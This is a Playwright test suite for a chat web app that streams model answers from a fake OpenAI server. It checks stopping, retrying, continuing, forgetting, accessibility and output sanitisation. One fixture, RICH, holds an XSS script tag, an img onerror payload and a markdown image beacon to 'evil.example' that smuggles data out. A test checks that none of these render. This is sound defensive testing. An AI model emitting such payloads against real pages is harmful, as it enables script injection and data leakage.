import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Locator, expect

from app.bench.living import living
from app.tests.fakes.openai_server import Failure, OpenAIServer, Reply, Silence, openai_server
from app.tests.journeys.conftest import WIDE, Arrive
from app.tests.journeys.test_look import CONTRASTS
from app.tests.journeys.visitor import Visitor
from app.tests.ui.quiet import quiet

WORDS = "help me email my landlord"
SLOWLY = Reply(pieces=("Zanzibar", *(f" word-{n}" for n in range(200))), delay_s=0.1)
RICH = Reply(
    pieces=(
        "## Draft\n\nDear **Ms. Okafor**, see [the law](https://example.org/law)",
        " ![leak](https://evil.example/?d=1) <script>alert(1)</script><img src=x onerror=alert(1)>",
        "\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\n",
        f"{'x' * 300}\n```\n",
    ),
    delay_s=0.15,
)


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[OpenAIServer, str]]:
    home = tmp_path_factory.mktemp("home")
    with openai_server() as server:
        settings = quiet(home, hf_base_url=f"{server.url}/v1", hf_llm_model="a-model")
        with living(settings) as address:
            yield server, address


@pytest.fixture
def address(running: tuple[OpenAIServer, str]) -> str:
    return running[1]


@pytest.fixture
def model(running: tuple[OpenAIServer, str]) -> OpenAIServer:
    server = running[0]
    server.always(Reply(pieces=("Hello", " there", ".")))
    server.seen.clear()
    server.gone.clear()
    return server


def _prompt(visitor: Visitor) -> str:
    visitor.ask(WORDS)
    return visitor.pick(1)


def _button(visitor: Visitor, name: str) -> Locator:
    return visitor.page.get_by_role("button", name=name, exact=True)


def _send(visitor: Visitor) -> None:
    _button(visitor, "Send").click()


def _whole(visitor: Visitor, answers: int = 1) -> Locator:
    """All the answers, once they are there and nothing is under way."""
    found = visitor.page.locator("#talk .answer")
    expect(found).to_have_count(answers)
    expect(_button(visitor, "Retry")).to_be_visible()
    expect(_button(visitor, "Stop")).to_have_count(0)
    return found


def _ask_further(visitor: Visitor, words: str) -> None:
    box = visitor.page.get_by_label("Ask further")
    box.fill(words)
    box.press("Enter")


def _sent(model: OpenAIServer) -> list[str]:
    return [message["content"] for message in model.asked[-1].json["messages"]]


def test_without_a_model_send_is_off_and_a_line_says_how_to_enable_it(
    arrive: Arrive, tmp_path_factory: pytest.TempPathFactory
) -> None:
    with living(quiet(tmp_path_factory.mktemp("home"))) as address:
        visitor = arrive(address)
        _prompt(visitor)
        expect(_button(visitor, "Send")).to_be_disabled()
        expect(visitor.page.locator("#send-hint")).to_contain_text("HF_TOKEN")
        visitor.page.close()


def test_the_edited_prompt_is_sent_and_its_answer_streams_in(
    arrive: Arrive, address: str, model: OpenAIServer, width: int
) -> None:
    visitor = arrive(address, width)
    visitor.knows("Always write to my landlord in a formal tone.", "PREFERENCE")
    edited = _prompt(visitor) + "\nP.S. in French"
    visitor.prompt.fill(edited)
    expect(visitor.page.locator("#send-hint")).to_contain_text("a-model")
    model.script(Reply(pieces=("One", " two", " three"), first_delay_s=0.5, delay_s=0.4))
    _send(visitor)
    expect(visitor.page.get_by_text("Thinking")).to_be_visible()
    expect(_button(visitor, "Send")).to_be_hidden()
    expect(_button(visitor, "Stop")).to_be_in_viewport()
    expect(visitor.page.locator("#live .answer")).to_have_text(re.compile(r"^\s*One( two)?\s*$"))
    expect(_whole(visitor)).to_have_text("One two three")
    assert _sent(model) == [edited]
    expect(visitor.page.locator("#live .said")).to_contain_text(WORDS)
    expect(visitor.page.locator("#live .leaf").first).to_contain_text("formal tone")
    expect(visitor.page.locator("#live .leaf").first).to_contain_text(re.compile(r"score 0\.\d\d"))
    expect(visitor.page.locator("#live .facts")).to_contain_text("a-model")
    expect(_button(visitor, "Send")).to_be_enabled()
    visitor.open("Memory")
    expect(visitor.memories.filter(has_text="One two three")).to_be_visible()
    assert visitor.overflow() == 0


def test_a_wait_for_the_model_is_visible_at_once(visitor: Visitor, model: OpenAIServer) -> None:
    _prompt(visitor)
    model.script(Silence())
    milliseconds = visitor.page.evaluate(
        """() => new Promise((resolve) => {
            const start = performance.now();
            const look = () => document.querySelector("#stop").offsetHeight
                ? resolve(performance.now() - start) : requestAnimationFrame(look);
            document.querySelector("#send").click();
            look();
        })"""
    )
    assert milliseconds < 1_000
    _button(visitor, "Stop").click()
    expect(visitor.note("Stopped before anything came")).to_be_visible()
    assert model.wait_for_gone(2.0)


def test_stop_ends_the_call_and_keeps_what_came(
    arrive: Arrive, address: str, model: OpenAIServer, width: int
) -> None:
    visitor = arrive(address, width)
    _prompt(visitor)
    model.script(SLOWLY)
    _send(visitor)
    expect(visitor.page.locator("#live .answer")).to_contain_text("word-3")
    _button(visitor, "Stop").click()
    assert model.wait_for_gone(1.0), "the model was not told to stop"
    expect(visitor.note("Stopped. What had come is kept")).to_be_visible()
    answer = _whole(visitor)
    stopped_at = answer.inner_text()
    assert "word-3" in stopped_at
    visitor.page.wait_for_timeout(600)
    assert answer.inner_text() == stopped_at
    _button(visitor, "Continue").click()
    expect(_whole(visitor, 2).last).to_have_text("Hello there.")
    assert any("Zanzibar" in text for text in _sent(model)), "what had come is part of the talk"


def test_closing_the_page_ends_the_call(visitor: Visitor, model: OpenAIServer) -> None:
    _prompt(visitor)
    model.script(SLOWLY)
    _send(visitor)
    expect(visitor.page.locator("#live .answer")).to_contain_text("Zanzibar")
    visitor.page.close()
    assert model.wait_for_gone(4.0)


def test_a_reload_ends_the_call_and_the_conversation_goes_on(
    visitor: Visitor, model: OpenAIServer
) -> None:
    _prompt(visitor)
    model.script(SLOWLY)
    _send(visitor)
    expect(visitor.page.locator("#live .answer")).to_contain_text("Zanzibar")
    visitor.reload()
    assert model.wait_for_gone(4.0)
    expect(_whole(visitor)).to_contain_text("Zanzibar")
    _prompt(visitor)
    _send(visitor)
    expect(_whole(visitor, 2).last).to_have_text("Hello there.")


def test_retry_sends_the_same_again_and_keeps_both_answers(
    visitor: Visitor, model: OpenAIServer
) -> None:
    prompt = _prompt(visitor)
    _send(visitor)
    _whole(visitor)
    model.script(Reply(pieces=("Another.",)))
    _button(visitor, "Retry").click()
    expect(_whole(visitor, 2)).to_have_text(["Hello there.", "Another."])
    assert _sent(model)[-1] == prompt


def test_asking_further_goes_on_in_the_same_conversation(
    arrive: Arrive, address: str, model: OpenAIServer, width: int
) -> None:
    visitor = arrive(address, width)
    visitor.knows("Section 7 of my lease: the landlord must repair heating in ten days", "ARTIFACT")
    _prompt(visitor)
    _send(visitor)
    _whole(visitor)
    model.script(Reply(pieces=("Within ten days, see [1].",)))
    _ask_further(visitor, "by when must my landlord repair the heating?")
    expect(_whole(visitor, 2)).to_have_text(["Hello there.", "Within ten days, see [1]."])
    assert _sent(model)[-3:] == [
        WORDS,
        "Hello there.",
        "by when must my landlord repair the heating?",
    ]
    cited = visitor.page.locator("#live .leaf.cited")
    expect(cited).to_contain_text("[1]")
    expect(cited).to_contain_text("cited")
    expect(visitor.page.get_by_label("Ask further")).to_have_value("")
    assert visitor.overflow() == 0


def test_a_new_inkling_joins_the_conversation_and_new_conversation_ends_it(
    visitor: Visitor, model: OpenAIServer
) -> None:
    _prompt(visitor)
    _send(visitor)
    _whole(visitor)
    visitor.ask("plan a birthday for my dad")
    expect(visitor.prompt).to_have_count(0)
    visitor.pick(1)
    _send(visitor)
    _whole(visitor, 2)
    expect(visitor.page.locator("#talk .said p")).to_have_text(
        [WORDS, "plan a birthday for my dad"]
    )
    assert "Hello there." in _sent(model)
    _button(visitor, "New conversation").click()
    expect(visitor.page.locator("#talk")).to_be_hidden()
    _send(visitor)
    _whole(visitor)
    assert len(_sent(model)) == 1


def test_an_answer_that_breaks_off_stays_and_can_be_had_again(
    visitor: Visitor, model: OpenAIServer
) -> None:
    _prompt(visitor)
    model.script(
        Reply(pieces=("Half of", " it", " all"), delay_s=0.2, cut="reset", cut_after=2), Reply()
    )
    _send(visitor)
    expect(visitor.page.get_by_role("alert")).to_contain_text("The answer broke off")
    expect(_whole(visitor)).to_have_text("Half of it")
    _button(visitor, "Retry").click()
    expect(_whole(visitor, 2)).to_have_text(["Half of it", "Hello there."])


def test_a_model_that_fails_is_told_and_nothing_typed_is_lost(
    visitor: Visitor, model: OpenAIServer
) -> None:
    prompt = _prompt(visitor)
    model.script(Failure(401))
    _send(visitor)
    expect(visitor.page.get_by_role("alert")).to_contain_text("HF_TOKEN")
    expect(visitor.prompt).to_have_value(prompt)
    _button(visitor, "Retry").click()
    expect(_whole(visitor)).to_have_text("Hello there.")
    expect(visitor.page.get_by_role("alert")).to_have_count(0)


def test_a_cut_answer_says_so_and_can_be_continued(visitor: Visitor, model: OpenAIServer) -> None:
    _prompt(visitor)
    model.script(Reply(finish="length"), Reply(finish="content_filter"))
    _send(visitor)
    _whole(visitor)
    expect(visitor.note("cut at the model's limit")).to_be_visible()
    _button(visitor, "Continue").click()
    _whole(visitor, 2)
    expect(visitor.note("The model declined to answer this")).to_be_visible()
    expect(_button(visitor, "Continue")).to_have_count(0)


def test_nothing_is_sent_while_an_answer_is_coming(visitor: Visitor, model: OpenAIServer) -> None:
    _prompt(visitor)
    _send(visitor)
    _whole(visitor)
    model.script(SLOWLY)
    _ask_further(visitor, "first")
    expect(visitor.page.locator("#live .answer")).to_contain_text("Zanzibar")
    visitor.page.get_by_label("Ask further").fill("second")
    _button(visitor, "Ask").click()
    visitor.page.wait_for_timeout(500)
    expect(visitor.page.get_by_label("Ask further")).to_have_value("second")
    assert len(model.asked) == 2
    _button(visitor, "Stop").click()
    _whole(visitor, 2)
    _ask_further(visitor, "second")
    expect(_whole(visitor, 3).last).to_have_text("Hello there.")


def test_an_answer_for_somebody_who_left_is_stopped_and_never_shown(
    visitor: Visitor, model: OpenAIServer
) -> None:
    _prompt(visitor)
    _send(visitor)
    _whole(visitor)
    model.script(SLOWLY)
    _ask_further(visitor, "tell me of zanzibar")
    expect(visitor.page.locator("#live .answer")).to_contain_text("word-2")
    visitor.become("somebody-else-sending")
    assert model.wait_for_gone(1.0)
    visitor.page.wait_for_timeout(700)
    expect(visitor.page.locator("#talk")).to_be_hidden()
    assert "anzibar" not in visitor.page.content()
    _prompt(visitor)
    _send(visitor)
    expect(_whole(visitor)).to_have_text("Hello there.")
    assert len(_sent(model)) == 1, "the conversation of the person before is not told"


def test_to_be_forgotten_ends_the_answer_and_nothing_of_it_is_kept(
    visitor: Visitor, model: OpenAIServer
) -> None:
    _prompt(visitor)
    model.script(SLOWLY)
    _send(visitor)
    expect(visitor.page.locator("#live .answer")).to_contain_text("word-2")
    visitor.open("Memory")
    _button(visitor, "Forget me …").click()
    _button(visitor, "Yes, forget everything").click()
    expect(visitor.note("Nothing is left.")).to_be_visible()
    assert model.wait_for_gone(1.0)
    expect(visitor.page.locator("#talk")).to_be_hidden()
    visitor.page.wait_for_timeout(500)
    visitor.reload()
    visitor.open("Memory")
    expect(visitor.memories).to_have_count(0)


def test_an_answer_can_harm_nobody(
    arrive: Arrive, address: str, model: OpenAIServer, width: int
) -> None:
    visitor = arrive(address, width)
    _prompt(visitor)
    model.script(RICH)
    _send(visitor)
    answer = _whole(visitor)
    expect(answer.locator("strong")).to_have_text("Ms. Okafor")
    expect(answer.locator("li")).to_have_count(2)
    expect(answer.locator("td")).to_have_count(2)
    expect(answer.locator("pre code")).to_contain_text("xxx")
    expect(answer.locator("img, script, iframe")).to_have_count(0)
    link = answer.get_by_role("link", name="the law")
    expect(link).to_have_attribute("rel", re.compile("noopener"))
    wide = visitor.page.evaluate(
        "[...document.querySelectorAll('#talk, #talk .exchange, #talk .answer, #talk pre')]"
        ".map((at) => at.getBoundingClientRect().right).every((right) => right <= innerWidth)"
    )
    assert wide, "a long line of code widens the page"


def test_an_answer_is_copied_as_the_model_wrote_it(
    arrive: Arrive, address: str, model: OpenAIServer
) -> None:
    visitor = arrive(address, permissions=["clipboard-read", "clipboard-write"])
    _prompt(visitor)
    model.script(Reply(pieces=("Dear **Ms. Okafor**,\n\n", "- one & <two>")))
    _send(visitor)
    _whole(visitor)
    _button(visitor, "Copy answer").click()
    expect(_button(visitor, "Copied")).to_be_visible()
    copied = visitor.page.evaluate("navigator.clipboard.readText()")
    assert copied == "Dear **Ms. Okafor**,\n\n- one & <two>"


def test_the_focus_goes_with_the_work(visitor: Visitor, model: OpenAIServer) -> None:
    _prompt(visitor)
    model.script(Reply(pieces=("One", " two"), first_delay_s=0.4, delay_s=0.4), SLOWLY)
    _button(visitor, "Send").focus()
    visitor.page.keyboard.press("Enter")
    expect(_button(visitor, "Stop")).to_be_focused()
    _whole(visitor)
    further = visitor.page.get_by_label("Ask further")
    expect(further).to_be_focused()
    visitor.page.keyboard.type("go on")
    visitor.page.keyboard.press("Enter")
    expect(visitor.page.locator("#live .answer")).to_contain_text("Zanzibar")
    expect(further).to_be_focused()
    visitor.page.keyboard.press("Shift+Tab")
    expect(_button(visitor, "Stop")).to_be_focused()
    visitor.page.keyboard.press("Space")
    expect(visitor.note("Stopped. What had come is kept")).to_be_visible()
    expect(further).to_be_focused()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_of_a_conversation_can_be_read_and_every_control_has_a_name(
    arrive: Arrive, address: str, model: OpenAIServer, width: int, scheme: str
) -> None:
    visitor = arrive(address, width, color_scheme=scheme, reduced_motion="reduce")
    visitor.knows("Section 7 of my lease: the landlord must repair heating in ten days", "ARTIFACT")
    _prompt(visitor)
    model.script(RICH, Reply(pieces=("Half [1]",), finish="length"), SLOWLY)
    _send(visitor)
    _whole(visitor)
    _ask_further(visitor, "by when must my landlord repair the heating?")
    _whole(visitor, 2)
    _readable(visitor)
    _ask_further(visitor, "and then?")
    expect(visitor.page.locator("#live .answer")).to_contain_text("Zanzibar")
    _readable(visitor)
    moving = visitor.page.evaluate(
        "[...document.querySelectorAll('#talk *')]"
        ".filter((at) => getComputedStyle(at).animationName !== 'none').length"
    )
    assert moving == 0


def _readable(visitor: Visitor) -> None:
    assert [pair for pair in visitor.page.evaluate(CONTRASTS) if pair[0] < 4.5] == []
    for line in visitor.page.locator("body").aria_snapshot().splitlines():
        control = line.strip().removeprefix("- ").rstrip(":")
        assert control not in {"button", "textbox", "link", "region"}
    assert visitor.overflow() == 0


def test_many_pieces_are_drawn_ten_times_a_second_at_most(
    arrive: Arrive, address: str, model: OpenAIServer
) -> None:
    visitor = arrive(address, WIDE)
    _prompt(visitor)
    model.script(Reply(pieces=tuple(f"{n} " for n in range(400)), delay_s=0.004))
    visitor.page.evaluate(
        """() => {
            window.drawn = 0;
            new MutationObserver((seen) => {
                if (seen.some((one) => one.target.closest?.("#live"))) window.drawn += 1;
            }).observe(document.querySelector("#main"), { childList: true, subtree: true });
            window.began = performance.now();
        }"""
    )
    _send(visitor)
    expect(_whole(visitor)).to_contain_text("399")
    drawn, seconds = visitor.page.evaluate("[drawn, (performance.now() - began) / 1000]")
    assert 3 <= drawn <= 12 * seconds + 5
